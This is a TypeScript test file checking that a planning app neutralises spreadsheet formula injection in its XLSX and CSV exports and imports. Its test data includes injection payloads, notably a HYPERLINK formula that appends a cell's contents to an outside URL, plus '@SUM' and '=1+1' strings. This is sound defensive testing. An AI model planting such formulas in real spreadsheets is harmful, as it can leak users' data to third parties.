// Formula injection (issue 7): action names that start with = + - @, a tab or a carriage return
// are written as text — never as formulas — in the workbook and the CSV, with an apostrophe in
// front, and read back to exactly the names they were. (A plan stores a carriage return as a
// line break, shared/domain/text.ts; the file here is written around that rule, as an older
// version of the app could have, and reads back in the stored form.)
import { finished, present } from '../support/calls';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Plan } from '../../shared/domain/types';
import { normaliseLineBreaks } from '../../shared/domain/text';
import { parseCsv } from '../../shared/exchange/csv';
import { managerIn, ok, samplePlan, writeDocument } from '../support/documents';
import { removeTempDirs, tempDir, useTempDataDir } from '../support/env';
import { cli } from '../support/processes';

const NAMES = [
  '=HYPERLINK("http://example.com/?"&A1,"Klicka här")',
  '+46 90 16 10 00',
  '-20 % energi i skolor',
  '@SUM(1+1)',
  '\tInryckt',
  '\rRetur',
  "'Citerad' åtgärd",
  '=1+1',
];

let dir: string;
let plan: Plan;
beforeAll(async () => {
  useTempDataDir();
  dir = tempDir('inject');
  const p = samplePlan();
  p.actions = p.actions.map((a, i) => (i < NAMES.length ? { ...a, name: NAMES[i], notes: NAMES[NAMES.length - 1 - i] } : a));
  plan = p;
  writeDocument(dir, 'farlig.klimat', p);
  for (const [cmd, out] of [
    ['export-xlsx', 'farlig.xlsx'],
    ['export-csv', 'farlig.csv'],
  ]) {
    const r = await cli([cmd, join(dir, 'farlig.klimat'), join(dir, out)]);
    expect(r.code).toBe(0);
  }
});
afterAll(removeTempDirs);

describe('formula injection', () => {
  it('writes the names as text cells with an apostrophe in front in the workbook, never as formulas', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(dir, 'farlig.xlsx'));
    const ws = wb.getWorksheet('Åtgärder')!;
    NAMES.forEach((name, i) => {
      const cell = ws.getRow(i + 2).getCell(2);
      expect(cell.formula).toBeUndefined();
      expect(typeof cell.value).toBe('string');
      expect(cell.value).toBe(`'${name}`);
    });
    // No cell anywhere in the workbook is a formula.
    for (const sheet of wb.worksheets) sheet.eachRow((row) => row.eachCell((c) => expect(c.formula).toBeUndefined()));
  });

  it('writes them with an apostrophe in front in the CSV', () => {
    const { rows } = parseCsv(readFileSync(join(dir, 'farlig.csv'), 'utf8'));
    NAMES.forEach((name, i) => expect(rows[i + 1][1]).toBe(`'${name}`));
  });

  it('reads both back to exactly the original names', async () => {
    const back = join(dir, 'tillbaka.klimat');
    expect((await cli(['import-xlsx', join(dir, 'farlig.xlsx'), back])).code).toBe(0);
    const json = JSON.parse((await cli(['export-json', back, '-'])).stdout) as Plan;
    const stored = NAMES.map(normaliseLineBreaks);
    expect(json.actions.slice(0, NAMES.length).map((a) => a.name)).toEqual(stored);
    expect(json.actions.slice(0, NAMES.length).map((a) => a.notes)).toEqual([...stored].reverse());

    const m = managerIn(dir);
    try {
      await ok(m, 'document.open', { name: 'farlig.klimat' });
      const staged = present(await ok(m, 'exchange.stage', { from: 'folder', name: 'farlig.csv', purpose: 'table' }));
      const s = staged.sheets[0];
      const preview = finished(
        await ok(m, 'exchange.preview', {
          fileId: staged.fileId,
          sheet: s.name,
          kind: 'actions',
          headerRow: 1,
          columns: s.suggestions.actions.columns,
          unit: 'tkr',
          mode: 'upsert',
        }),
      );
      // Read back, the CSV matches the plan exactly: every row unchanged but the two (name and
      // notes) whose carriage return is now stored as a line break.
      expect(preview).toMatchObject({ problems: [], counts: { add: 0, update: 2, unchanged: plan.actions.length - 2 } });
    } finally {
      m.close(true);
    }
  });
});
